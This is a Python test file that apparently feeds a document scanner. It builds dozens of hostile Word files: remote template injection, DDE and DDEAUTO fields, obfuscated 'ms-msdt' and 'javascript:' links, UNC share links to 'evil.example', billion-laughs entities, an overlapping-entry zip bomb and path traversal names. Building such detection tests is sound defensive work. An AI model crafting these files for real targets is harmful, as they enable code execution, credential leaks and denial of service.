"""Word documents that fetch or run something, in every way that somebody thought of."""

from __future__ import annotations

import io
import zipfile

from tests.attacks.office_files import (
    OFFICE,
    WORD_TYPE,
    Maker,
    W,
    field,
    listed_as,
    related,
    relation,
    types,
    word,
)
from tests.documents.files import docx

_TEMPLATE = relation("attachedTemplate", "https://example.org/t.dotm")
_COMPUTED_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:instrText> Excel "a.xls" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
_SVG = "http://www.w3.org/2000/svg"


def svg(inner: str, attributes: str = "") -> Maker:
    part = f'<svg xmlns="{_SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{inner}</svg>'
    return lambda: word(more={"word/media/i.svg": part}, kinds={"/word/media/i.svg": "image/svg+xml"})


def _twice() -> bytes:
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("Word/Document.xml", "<other/>")
    return made.getvalue()


def _overlapping() -> bytes:
    """Two names of the directory lead to the same bytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types({"/word/document.xml": WORD_TYPE}))
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{W}"/>')
        archive.writestr("word/media/a.png", b"\0" * 900_000)
        first = archive.getinfo("word/media/a.png")
        for number in range(30):
            copy = zipfile.ZipInfo(f"word/media/{number}.png")
            copy.compress_type, copy.CRC, copy.compress_size = first.compress_type, first.CRC, first.compress_size
            copy.file_size, copy.header_offset = first.file_size, first.header_offset
            archive.filelist.append(copy)
    return made.getvalue()


def _laughing(part: str) -> Maker:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
    text = f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><w:x xmlns:w="{W}">&a8;</w:x>'
    return lambda: word(more={part: text})


def _outside_entity(part: str) -> Maker:
    return lambda: word(more={part: '<!DOCTYPE x SYSTEM "http://example.org/x.dtd"><x/>'})


WORD: dict[str, Maker] = {
    "template": listed_as(_TEMPLATE),
    "template in single quotes": listed_as(_TEMPLATE.replace('"', "'")),
    "template in UTF-16": listed_as(("<?xml version='1.0' encoding='UTF-16'?>" + _TEMPLATE).encode("utf-16")),
    "template in UTF-16 without a mark": listed_as(_TEMPLATE.encode("utf-16-le")),
    "template behind a prefix": listed_as(
        _TEMPLATE.replace("<Relationship ", "<p:Relationship ")
        .replace("Relationships", "p:Relationships")
        .replace("xmlns=", "xmlns:p=")
    ),
    "template by references": listed_as(
        _TEMPLATE.replace("External", "&#69;xternal").replace("attachedTemplate", "attached&#x54;emplate")
    ),
    "template in a list with capitals": listed_as(_TEMPLATE, "word/_RELS/settings.xml.RELS"),
    "template in the list of another part": listed_as(_TEMPLATE, "word/_rels/header1.xml.rels"),
    "template in UTF-7": listed_as(b"<?xml version='1.0' encoding='UTF-7'?>" + _TEMPLATE.encode("utf-7")),
    "template in the strict edition": listed_as(
        _TEMPLATE.replace(OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships")
    ),
    "picture from outside": related("image", "https://example.org/i.png"),
    "picture on a share": related("image", "\\\\evil.example\\s\\i.png"),
    "picture on a share, with slashes": related("image", "file://evil.example/s/i.png"),
    "picture inside that is outside": related("image", "https://example.org/i.png", mode=""),
    "picture inside on a share": related("image", "//evil.example/i.png", mode=' TargetMode="Internal"'),
    "picture by a mode nobody knows": related("image", "i.png", mode=' TargetMode="external"'),
    "link to a share": related("hyperlink", "\\\\evil.example\\s"),
    "link to a file": related("hyperlink", "file:///C:/Windows/System32/calc.exe"),
    "link that runs a script": related("hyperlink", "javascript:alert(1)"),
    "link with a tab in its scheme": related("hyperlink", "java&#9;script:alert(1)"),
    "link to a handler": related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link to a search": related("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\evil.example"),
    "link encoded twice": related("hyperlink", "%255C%255Cevil.example%255Cs"),
    **{
        f"relation {kind}": related(kind, "https://example.org/x")
        for kind in [
            "oleObject",
            "package",
            "frame",
            "subDocument",
            "aFChunk",
            "externalLink",
            "externalLinkPath",
            "mailMergeSource",
            "mailMergeHeaderSource",
            "transform",
            "video",
            "audio",
            "control",
            "activeXControlBinary",
            "attachedTemplate",
            "recipientData",
            "connections",
            "queryTable",
            "vbaProject",
        ]
    },
    "chunk of HTML": lambda: word(
        '<w:altChunk r:id="r1"/>',
        more={"word/afchunk.htm": "<html/>", "word/_rels/document.xml.rels": relation("aFChunk", "afchunk.htm", mode="")},
        kinds={"/word/afchunk.htm": "text/html"},
    ),
    "macro under another name": lambda: word(
        more={"word/theme/a.xml": b"x"}, kinds={"/word/theme/a.xml": "application/vnd.ms-office.vbaProject"}
    ),
    "macro document by type": lambda: docx(
        types=types({"/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"})
    ),
    "template document by type": lambda: docx(
        types=types({"/word/document.xml": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"})
    ),
    "type by reference": lambda: docx(
        types=types({"/word/document.xml": "application/vnd.ms-word.document.macro&#69;nabled.main+xml"})
    ),
    "ActiveX": lambda: word(more={"word/x.xml": "<a/>"}, kinds={"/word/x.xml": "application/vnd.ms-office.activeX+xml"}),
    "OLE called picture": lambda: word(more={"word/media/i.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "program called picture": lambda: word(more={"word/media/i.jpeg": b"MZ\x90\0"}),
    "package called picture": lambda: word(more={"word/media/i.emf": docx()}),
    "page called picture": lambda: word(more={"word/media/i.gif": b"<html><script/></html>"}),
    "embedded object": lambda: word('<w:object><w:OLEObject ProgID="Package"/></w:object>'),
    "part of an unknown type": lambda: word(more={"word/x.bin": b"x"}),
    "DDE": field("DDE Excel a.xls A1"),
    "DDEAUTO cut up": field("DD", "EAU", 'TO c:\\x.exe "/k"'),
    "dde in small letters": field(" ddeauto excel x y"),
    "computed field": lambda: word(_COMPUTED_FIELD),
    "simple field": lambda: word('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://example.org/a&quot; "/></w:p>'),
    **{
        f"field {name}": field(f' {name} "https://example.org/i" \\d ')
        for name in [
            "INCLUDEPICTURE",
            "INCLUDETEXT",
            "INCLUDE",
            "IMPORT",
            "LINK",
            "EMBED",
            "RD",
            "DATABASE",
            "CONTROL",
            "HTMLCONTROL",
            "PRINT",
            "DDEAUTO",
        ]
    },
    "field that nobody ended": lambda: word(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE x</w:instrText></w:r></w:p>'
    ),
    "field in a header": lambda: word(
        more={"word/header1.xml": f'<w:hdr xmlns:w="{W}"><w:fldSimple w:instr="DDEAUTO a b"/></w:hdr>'},
        kinds={"/word/header1.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"},
    ),
    "field with a link to a share": field(' HYPERLINK "\\\\\\\\evil.example\\\\s" '),
    "drawing from a share": lambda: word('<v:shape><v:imagedata src="\\\\evil.example\\s\\i.png"/></v:shape>'),
    "drawing from the web": lambda: word('<v:shape><v:fill src="https://example.org/i.png"/></v:shape>'),
    "mail merge": lambda: word("<w:mailMerge><w:query w:val='select'/></w:mailMerge>"),
    "base of links": lambda: word(
        more={"docProps/app.xml": "<Properties><HyperlinkBase>\\\\evil.example\\s</HyperlinkBase></Properties>"}
    ),
    "video from outside": lambda: word('<w:webVideoPr embeddedHtml="&lt;iframe/&gt;"/>'),
    "entities in the body": _laughing("word/footnotes.xml"),
    "entities in relations": _laughing("word/_rels/document.xml.rels"),
    "document type from outside": _outside_entity("word/styles.xml"),
    "document type in properties": _outside_entity("docProps/core.xml"),
    "drawing with a script": svg("<script>1</script>"),
    "drawing with an event": svg("<g/>", 'onload="x()"'),
    "drawing with a picture from outside": svg('<image xlink:href="https://example.org/i.png"/>'),
    "drawing with a page inside": svg("<foreignObject/>"),
    "part twice, by capitals": _twice,
    "overlapping parts": _overlapping,
    "traversal": lambda: word(more={"word/../../x.xml": "<a/>"}),
    "traversal with backslashes": lambda: word(more={"word\\..\\..\\x.xml": "<a/>"}),
    "absolute name": lambda: word(more={"/etc/x.xml": "<a/>"}),
    "name with a drive": lambda: word(more={"C:x.xml": "<a/>"}),
    "broken part": lambda: word(more={"word/styles.xml": "<a><b></a>"}),
}
